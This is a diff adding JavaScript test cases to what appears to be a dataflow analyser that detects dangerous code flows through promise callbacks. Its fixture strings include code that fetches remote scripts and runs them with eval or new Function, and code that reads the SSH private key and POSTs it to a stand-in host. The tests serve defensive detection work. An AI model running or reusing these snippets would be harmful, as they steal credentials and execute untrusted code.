@@ -165,6 +165,25 @@ describe('dataflow analysis', () => {
     }
   });
 
+  describe('promise callbacks (JavaScript)', () => {
+    it('follows downloaded code through .then callbacks into eval and new Function', async () => {
+      const code = "fetch('https://cdn.example/p.js').then((r) => r.text()).then((code) => eval(code));\nfetch('https://cdn.example/q.js').then(r => r.text()).then(t => { new Function(t)(); });\n";
+      assert.deepEqual(summary(await flowsOf('javascript', code)).map((line) => line.split(':')[0]), ['download', 'download']);
+    });
+
+    it('follows a value resolved by Promise.resolve into a request body, and .then(eval)', async () => {
+      const secret = "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\nPromise.resolve(key).then((k) => fetch('https://c.example/u', { method: 'POST', body: k }));\n";
+      assert.deepEqual(summary(await flowsOf('javascript', secret)), ['secret: the SSH private key -> network']);
+      const code = "fetch('https://cdn.example/p.js').then((r) => r.text()).then(eval);\n";
+      assert.deepEqual(summary(await flowsOf('javascript', code)).map((line) => line.split(':')[0]), ['download']);
+    });
+
+    it('reports nothing for data that is only logged, or a token used as a header in a callback', async () => {
+      const code = "fetch('https://api.example/items').then((r) => r.json()).then((items) => console.log(items.length));\nPromise.resolve(process.env.ACME_TOKEN).then((t) => fetch('https://api.acme.example/x', { headers: { Authorization: `Bearer ${t}` } }));\n";
+      assert.deepEqual(await flowsOf('javascript', code), []);
+    });
+  });
+
   describe('JavaScript and Bash', () => {
     it('follows destructured secrets through template literals and base64 (JavaScript)', async () => {
       const flows = await flowsOf('javascript', "const { ACME_API_KEY: k } = process.env;\nconst b = Buffer.from(`k=${k}`).toString('base64');\naxios.post('https://c.example/u', { b });\n");
